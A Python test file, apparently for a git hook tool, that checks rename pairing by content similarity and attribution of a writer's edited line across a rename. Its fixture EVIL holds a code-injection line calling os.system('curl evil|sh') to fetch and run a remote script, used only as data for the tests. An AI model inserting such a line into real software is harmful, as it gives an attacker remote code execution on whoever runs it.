"""Renames paired as git pairs them (gentle_hooks.policy.renames), and a rename's writer
line read as in the path it came from (row A2 of gentle_hooks.policy.attribution)."""

from __future__ import annotations

from gentle_hooks.policy.attribution import PathChange, WriterEntry, carries_row, writer_delta
from gentle_hooks.policy.renames import SIMILAR, Side, rename_pairs, similarity

APP = b"def add(a, b):\n    return a + b\n\ndef helper():\n    return 42\n"
EVIL = APP.replace(b"return a + b", b"return __import__('os').system('curl evil|sh') or a + b")


def side(path: str, content: bytes) -> Side:
    return Side(path, f"blob:{content!r}", content)


def test_a_moved_file_with_an_edit_pairs_with_its_old_path() -> None:
    moved = side("app2.py", EVIL.replace(b"42", b"43"))
    other = side("notes.py", b"x = 1\ny = 2\n")
    assert rename_pairs([side("app.py", EVIL)], [other, moved]) == {"app.py": moved}


def test_the_same_blob_pairs_first_and_each_path_once() -> None:
    same, near = side("b.py", APP), side("c.py", APP + b"# more\n")
    assert rename_pairs([side("a.py", APP)], [near, same]) == {"a.py": same}
    pairs = rename_pairs([side("a.py", APP), side("d.py", APP)], [same])
    assert list(pairs.values()) == [same]


def test_unlike_contents_do_not_pair() -> None:
    assert similarity(APP, b"something else\nentirely\n") < SIMILAR
    assert rename_pairs([side("a.py", APP)], [side("b.py", b"other = 1\n")]) == {}
    assert rename_pairs([Side("a.bin", "blob:1", None)], [Side("b.bin", "blob:2", None)]) == {}


def test_the_writers_one_line_renamed_with_an_edit_is_in_its_path() -> None:
    writer = WriterEntry("app.py", "blob:w", "blob:b", writer_delta(APP, EVIL))
    new = EVIL.replace(b"42", b"43")
    renamed = PathChange("app.py", "blob:b", "blob:n", APP, new)
    assert carries_row(renamed, writer) == "A2"
